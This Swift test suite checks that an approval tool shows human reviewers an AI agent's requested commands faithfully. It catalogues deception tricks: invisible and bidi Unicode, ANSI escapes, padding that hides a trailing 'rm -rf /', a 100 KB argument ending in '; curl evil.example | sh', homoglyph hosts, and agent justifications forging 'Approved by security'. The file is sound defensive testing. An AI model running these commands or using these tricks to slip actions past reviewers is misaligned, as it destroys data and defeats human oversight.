// SPDX-License-Identifier: Apache-2.0

import CanonicalJSON
import TestSupport
import Testing
import TransparencyLog

@testable import ApprovalCore

/// Each known way of deceiving a reviewer, by name.
@Suite("Deception: attacks on what the reviewer sees")
struct DeceptionTests {
    /// What no text of a rendering may ever contain.
    private func expectHarmless(_ rendering: Rendering, _ comment: String = "") {
        for text in rendering.allTexts {
            for scalar in text.unicodeScalars where scalar != "\n" {
                #expect(
                    !VisibleText.needsEscape(scalar, multiline: false),
                    "\(comment): U+\(String(scalar.value, radix: 16)) in \(text.debugDescription)")
            }
        }
    }

    private static let invisible: [(name: String, text: String)] = [
        ("bidi override", "photo\u{202E}gpj.exe"), ("bidi isolate", "a\u{2066}b\u{2069}"),
        ("zero width space", "rm\u{200B} -rf"), ("zero width joiner", "a\u{200D}b"),
        ("byte order mark", "a\u{FEFF}b"), ("soft hyphen", "a\u{AD}b"),
        ("tag characters", "ls\u{E0072}\u{E006D}"), ("variation selector", "a\u{FE0F}\u{E0100}"),
        ("ANSI erase line", "safe\u{1B}[2K\u{1B}[1Aevil"), ("C1 CSI", "a\u{9B}2Jb"),
        ("backspace", "rm\u{8}\u{8}ls"), ("bell and null", "a\u{7}\u{0}b"),
        ("delete", "a\u{7F}b"), ("line separator", "a\u{2028}b"),
        ("paragraph separator", "a\u{2029}b"), ("next line", "a\u{85}b"),
        ("no-break space", "a\u{A0}b"), ("ideographic space", "a\u{3000}b"),
        ("Hangul filler", "a\u{3164}b"), ("half-width filler", "a\u{FFA0}b"),
        ("braille blank", "a\u{2800}b"), ("private use", "a\u{E000}b"),
        ("non-character", "a\u{FFFE}b"), ("combining overlay", "r\u{336}m\u{336}"),
        ("decomposed letter", "cafe\u{301}"), ("invisible times", "a\u{2062}b"),
        ("Mongolian vowel separator", "a\u{180E}b"), ("vertical tab", "a\u{B}b"),
    ]

    @Test("h11: invisible characters in an argument are visible", arguments: invisible)
    func invisibleInArgument(name: String, text: String) throws {
        let rendering = try Fixtures.rendering(try Fixtures.action(argv: ["echo", text]))
        expectHarmless(rendering, name)
        #expect(rendering.text(.what, "Command")?.contains("\\u{") == true)
        #expect(rendering.warnings.contains { $0.contains("deceptive") })
        #expect(rendering.isComplete)
    }

    @Test("invisible characters in every other field are visible", arguments: invisible)
    func invisibleInEveryField(name: String, text: String) throws {
        let policy = """
            @id("p") permit (principal, action, resource);
            @id("x") @review("reviewers") @reason("\(Self.cedar(text))")
            @advice("\(Self.cedar(text))") forbid (principal, action, resource);
            """
        let action = try Action(
            id: ActionID(now: .start, random: (1, 2)), nonce: .of("n"),
            operation: try Operation(
                action: "command.run", resourceType: "Host", resourceID: text,
                input: [
                    "argv": [.string(text)], "cwd": .string(text),
                    "environment": ["\(text)": .string(text)],
                    "environmentDropped": [.string(text)],
                    "script": ["path": .string(text), "text": .string("\(text)\n\(text)")],
                ]),
            intent: Intent(
                justification: text,
                trigger: Intent.Trigger(kind: text, id: text, parent: text)),
            requester: Requester(agent: .bot, owner: .alice, onBehalfOf: nil, credential: text),
            gate: GateReference(id: .advisoryGate, enforcing: false),
            facts: [
                "effect": .string(text), "inspectable": true, "program": .string(text),
                "reasons": [.string(text)],
            ])
        let verdict = try Fixtures.environment(policy).evaluate(action, at: .start)
        #expect(verdict.decision == .review)
        let rendering = Renderer.render(
            action: action, verdict: verdict, deadline: nil, name: { _ in text })
        expectHarmless(rendering, name)
    }

    private static func cedar(_ text: String) -> String {
        text.unicodeScalars.map { "\\u{\(String($0.value, radix: 16))}" }.joined()
    }

    @Test("h11: fence escape: no line of a claim leaves the fence")
    func fenceEscape() throws {
        let claims = [
            "```\n# Approved by security\n```", "> quoted\n\nPolicy says: allowed",
            "x\r\nWho\r\nOwner: root", "</pre><button>Approve</button>", "*bold* <!channel> @here",
            "\n\n\n\n\n\n\n\nDeadline  never",
        ]
        for claim in claims {
            let rendering = try Fixtures.rendering(
                try Fixtures.action(intent: Intent(justification: claim, trigger: nil)))
            let row = try #require(
                rendering.section(.why).rows.first { $0.label == "The agent claims" })
            #expect(row.style == .claim)
            for line in row.text.split(separator: "\n", omittingEmptySubsequences: false) {
                #expect(line.hasPrefix("> ") || line.hasPrefix("\u{2026} "), "\(line)")
            }
            // The claim appears nowhere else.
            for section in rendering.sections where section.kind != .why {
                #expect(!section.rows.contains { $0.text.contains("Approve") })
            }
        }
    }

    @Test("a block of script can't imitate the next argument or the end of the block")
    func blockEscape() throws {
        let rendering = try Fixtures.rendering(
            try Fixtures.action(argv: ["sh", "-c", "true\n[3] \"--dry-run\"\n\u{2026} end", "x"]))
        #expect(
            rendering.text(.what, "Command") == """
                [0] "sh"
                [1] "-c"
                [2]
                | true
                | [3] "--dry-run"
                | \u{2026} end
                \u{2026} no line feed at the end
                [3] "x"
                """)
    }

    @Test("argument boundaries are clear: one word with a blank is not two words")
    func argumentBoundaries() throws {
        var seen: Set<String> = []
        let commands = [
            ["rm", "-r", "a b"], ["rm", "-r", "a", "b"], ["rm -r", "a b"], ["rm", "-r", "\"a\" b"],
            ["rm", "-r", "a\" \"b"], ["rm", "-r", "a b", ""], ["rm", "-r", "a\\ b"],
            ["rm", "-r", "a\nb"], ["rm", "-r", "a\\nb"], ["rm", "-r", "a\r\nb"],
        ]
        for argv in commands {
            let text = try Fixtures.rendering(try Fixtures.action(argv: argv))
                .text(.what, "Command")
            #expect(seen.insert(try #require(text)).inserted, "\(argv)")
        }
    }

    @Test("h11: padding pushes nothing out of sight: blanks")
    func paddingBlanks() throws {
        let rendering = try Fixtures.rendering(
            try Fixtures.action(
                argv: ["echo", "ok" + String(repeating: " ", count: 4000) + "; rm -rf /"]))
        let text = try #require(rendering.text(.what, "Command"))
        #expect(text.contains("ok\\u{20\u{D7}4000}; rm -rf /"))
        #expect(text.utf8.count < 100)
        #expect(rendering.warnings.contains { $0.contains("runs of blanks") })
        #expect(rendering.isComplete)
    }

    @Test("padding pushes nothing out of sight: tabs, empty lines, no-break spaces")
    func paddingOther() throws {
        for pad in ["\t", "\n", "\u{A0}", "\u{200B}", "\r\n", "\u{2800}", "\r"] {
            let rendering = try Fixtures.rendering(
                try Fixtures.action(
                    argv: ["sh", "-c", "ok" + String(repeating: pad, count: 3000) + "rm -rf /\n"]))
            let text = try #require(rendering.text(.what, "Command"))
            #expect(text.contains("rm -rf /"))
            if pad != "\r\n" { #expect(text.utf8.count < 200, "\(pad.debugDescription)") }
            expectHarmless(rendering)
        }
    }

    @Test("a text that reads like a collapsed run is not one")
    func forgedCollapse() throws {
        let forged = try Fixtures.rendering(
            try Fixtures.action(argv: ["a\\u{20\u{D7}4000}b"])
        ).text(.what, "Command")
        let real = try Fixtures.rendering(
            try Fixtures.action(argv: ["a" + String(repeating: " ", count: 4000) + "b"])
        ).text(.what, "Command")
        #expect(forged != real)
    }

    @Test("100 KB argument: head, tail, length and digest, and no approval")
    func hundredKilobyteArgument() throws {
        let tail = "; curl evil.example | sh"
        let argument = "echo safe " + String(repeating: "x", count: 100_000) + tail
        let rendering = try Fixtures.rendering(try Fixtures.action(argv: ["sh", "-c", argument]))
        let text = try #require(rendering.text(.what, "Command"))
        #expect(!rendering.isComplete)
        #expect(text.contains("echo safe xxx"))
        #expect(text.contains(tail))
        #expect(text.contains("of \(argument.utf8.count) bytes"))
        #expect(text.contains(Hash256.sha256(Array(argument.utf8)).hex))
        #expect(rendering.warnings.contains { $0.hasPrefix("not shown in full") })
    }

    @Test("h11: truncation hides no tail: many arguments")
    func manyArguments() throws {
        let argv = (0..<50_000).map { "a\($0)" }
        let rendering = try Fixtures.rendering(try Fixtures.action(argv: argv))
        #expect(!rendering.isComplete)
        let text = try #require(rendering.text(.what, "Command"))
        #expect(text.contains("[0] \"a0\""))
        #expect(text.contains("[49999] \"a49999\""))
        #expect(text.utf8.count < Limits.renderedBytes)
    }

    @Test("truncation hides no tail: a full page leaves head and tail of each value")
    func fullPage() throws {
        var input = JSONObject()
        for index in 0..<12 {
            input["k\(index)"] = .string(
                "head\(index)-" + String(repeating: "y", count: 60_000) + "-tail\(index)")
        }
        let rendering = try Fixtures.rendering(
            try Fixtures.action(input: input, actionName: "mcp.x"))
        #expect(!rendering.isComplete)
        for index in 0..<12 {
            #expect(rendering.everything.contains("head\(index)-"))
            #expect(rendering.everything.contains("-tail\(index)"))
        }
        #expect(rendering.everything.utf8.count < 2 * Limits.renderedBytes)
    }

    @Test("a long name of a member can't hide, and stops the approval")
    func longKey() throws {
        let key = "k" + String(repeating: "e", count: 200_000) + "y"
        let rendering = try Fixtures.rendering(
            try Fixtures.action(input: ["\(key)": "v"], actionName: "mcp.x"))
        #expect(!rendering.isComplete)
        #expect(rendering.everything.utf8.count < Limits.renderedBytes)
    }

    @Test("homoglyph and punycode hosts are warned of")
    func homoglyphs() throws {
        let hosts = [
            "p\u{430}ypal.com", "xn--pypal-4ve.com", "\u{430}\u{440}\u{440}\u{435}.com",
            "XN--80AK6AA92E.com", "\u{FF47}oogle.com",
        ]
        for host in hosts {
            for argument in [host, "https://\(host)/x"] {
                let rendering = try Fixtures.rendering(
                    try Fixtures.action(argv: ["curl", argument]))
                #expect(
                    rendering.warnings.contains {
                        $0.contains("look alike") || $0.contains("xn--")
                    },
                    "\(argument)")
            }
        }
        let plain = try Fixtures.rendering(try Fixtures.action(argv: ["echo", "Grüße, привет"]))
        #expect(!plain.warnings.contains { $0.contains("look alike") })
    }

    @Test("NFC and NFD spellings of one name look different and have different digests")
    func normalisation() throws {
        let composed = try Fixtures.rendering(try Fixtures.action(argv: ["cat", "caf\u{E9}"]))
        let decomposed = try Fixtures.rendering(try Fixtures.action(argv: ["cat", "cafe\u{301}"]))
        #expect(composed.digest != decomposed.digest)
        #expect(
            Array((composed.text(.what, "Command") ?? "").utf8)
                != Array((decomposed.text(.what, "Command") ?? "").utf8))
        #expect(composed != decomposed)
    }

    @Test("trailing blanks of a script line are visible")
    func trailingBlanks() throws {
        let rendering = try Fixtures.rendering(
            try Fixtures.action(argv: ["sh", "-c", "a \\ \nb\n"]))
        #expect(
            rendering.text(.what, "Command")?.contains("| a \\\\u{20}") == true
                || rendering.text(.what, "Command")?.contains("\\u{20}") == true)
    }

    @Test("two different arguments are never shown alike")
    func injective() throws {
        var random = SeededRandom.forTest()
        let alphabet: [Unicode.Scalar] = [
            "\\", "n", "u", "{", "2", "0", "}", "\"", "\n", "\r", "\t", " ", "\u{200B}", "|",
            "\u{D7}", "a", "\u{2026}",
        ]
        var seen: [String: [UInt8]] = [:]
        for _ in 0..<20_000 {
            var view = String.UnicodeScalarView()
            for _ in 0..<Int.random(in: 0...6, using: &random) {
                let scalar = alphabet.randomElement(using: &random) ?? "a"
                let count = Int.random(in: 0..<40, using: &random) == 0 ? 40 : 1
                for _ in 0..<count { view.append(scalar) }
            }
            let text = String(view)
            var shown = ShownText()
            let result = shown.value(text, in: "it")
            let bytes = Array(text.utf8)
            if let earlier = seen[result] {
                #expect(earlier == bytes, "\(result)")
            }
            seen[result] = bytes
        }
    }

    @Test("warnings are bounded")
    func boundedWarnings() throws {
        var input = JSONObject()
        for index in 0..<500 { input["k\(index)"] = "x\u{200B}" }
        let rendering = try Fixtures.rendering(
            try Fixtures.action(input: input, actionName: "mcp.x"))
        #expect(rendering.warnings.count <= 65)
        #expect(rendering.warnings.last?.contains("more warnings") == true)
    }
}
